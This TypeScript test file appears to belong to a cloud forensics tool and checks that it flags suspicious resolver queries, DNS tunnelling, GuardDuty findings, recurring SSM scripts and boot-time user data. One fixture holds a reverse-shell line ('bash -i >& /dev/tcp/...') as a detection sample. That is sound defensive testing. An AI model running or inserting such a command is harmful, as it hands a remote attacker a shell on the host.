import { readFileSync } from 'node:fs';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { parseDnsQuery } from '../../src/parsers/dns-query.js';
import { resultsOf, told } from './run.js';

const query = (name: string, second: number) =>
  JSON.stringify({
    version: '1.100000',
    query_timestamp: new Date(Date.parse('2026-11-20T02:00:00Z') + second * 1000).toISOString(),
    query_name: `${name}.`,
    query_type: 'A',
    rcode: 'NOERROR',
    srcids: { instance: 'i-0f3a9c51d2b7e8460' },
  });
const inGroup = (message: string) => JSON.stringify({ timestamp: 1, message });
const QUERIES = 'control-plane/resolver-queries-rqlc-0abc.jsonl';

describe('queries of the resolver', () => {
  it('show a domain of the finding, and what lies below it', async () => {
    const lines = [
      query('database.shop.internal', 0),
      query('a.EVIL.example', 5),
      query('notevil.example', 6),
    ];
    const { bad, events } = await resultsOf({ [QUERIES]: lines.map(inGroup).join('\n') });
    expect(told(bad)).toEqual([`network.dns-finding-domain domain:evil.example ${QUERIES}:2`]);
    expect(events.map(({ kind }) => kind)).toEqual(['network.dns', 'network.dns']);
  });

  it('show data that is hidden in names, and not the long names of AWS', async () => {
    const long = (at: number, parent: string) => query(`${String(at).padStart(44, 'a7f3')}.${parent}`, at);
    const lines = Array.from({ length: 150 }, (_, at) => [
      long(at, 't.tunnel.test'),
      long(at, 's3.amazonaws.com'),
    ]);
    const name =
      'control-plane/resolver-queries/111122223333_vpcdnsquerylogs_vpc-0abc_20261120T0200Z_1a2b.log';
    const { bad } = await resultsOf({ [name]: lines.flat().join('\n') });
    expect(told(bad)).toEqual([`network.dns-tunnel domain:tunnel.test ${name}:1`]);
  });

  it('never throw, whatever a line holds', () => {
    fc.assert(
      fc.property(fc.json(), fc.json(), (text, message) => {
        parseDnsQuery(text);
        parseDnsQuery(JSON.stringify({ message }));
      }),
    );
  });
});

describe('what AWS knows', () => {
  it('has the findings of GuardDuty, without samples', async () => {
    const { Findings } = JSON.parse(
      readFileSync(
        new URL('../../../core/test/fixtures/findings/c2-activity.getfindings.json', import.meta.url),
        'utf8',
      ),
    ) as { Findings: readonly { Service: object }[] }; // as AWS answers
    const [real] = Findings;
    const sample = {
      ...real,
      Service: { ...real?.Service, AdditionalInfo: { Value: '{"sample":true}', Type: 'default' } },
    };
    const lines = [real, sample].map((one) => JSON.stringify(one)).join('\n');
    const { bad, events } = await resultsOf({ 'control-plane/guardduty-findings.jsonl': lines });
    expect(bad.map(({ rule, excerpt }) => [rule, excerpt])).toEqual([
      ['guardduty.finding', 'Backdoor:EC2/C&CActivity.B'],
    ]);
    expect(events.map(({ kind }) => kind)).toEqual(['guardduty.finding']);
  });

  it('has the history of Systems Manager, and scripts that it runs again and again', async () => {
    const { bad, events } = await resultsOf({
      'control-plane/ssm-commands.jsonl': `${JSON.stringify({ CommandId: 'c', DocumentName: 'AWS-RunShellScript', RequestedDateTime: '2026-11-20T02:00:00.000Z', StatusDetails: 'Success' })}\n`,
      'control-plane/ssm-sessions.json': JSON.stringify(
        {
          active: [
            {
              SessionId: 's',
              Owner: 'arn:aws:sts::111122223333:assumed-role/admin/x',
              StartDate: '2026-11-20T02:10:00Z',
            },
          ],
          history: [],
        },
        null,
        2,
      ),
      'control-plane/ssm-associations.json': JSON.stringify({
        defined: [
          { Name: 'AWS-RunShellScript', AssociationId: 'a-1', ScheduleExpression: 'rate(30 minutes)' },
          { Name: 'AWS-GatherSoftwareInventory', AssociationId: 'a-2', ScheduleExpression: 'rate(12 hours)' },
        ],
        status: [],
      }),
    });
    expect(told(bad)).toEqual([
      'persistence.ssm-association association:a-1 control-plane/ssm-associations.json:-',
    ]);
    expect(events.map(({ kind, message }) => [kind, message])).toEqual([
      ['ssm.command', 'AWS-RunShellScript Success'],
      ['ssm.session', 'arn:aws:sts::111122223333:assumed-role/admin/x opened a shell'],
    ]);
  });

  it('has the user data, which runs at boot', async () => {
    const script = '#!/bin/bash\nyum -y update\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n';
    const { bad } = await resultsOf({ 'control-plane/attempt-2/user-data.bin': script });
    expect(told(bad)).toEqual([
      'persistence.user-data service:cloud-init control-plane/attempt-2/user-data.bin:3',
    ]);
  });

  it('is told when it is no document', async () => {
    const { notices } = await resultsOf({ 'control-plane/ssm-associations.json': '[1' });
    expect(notices.map(({ code }) => code)).toEqual(['CONTENT_UNREADABLE']);
  });
});
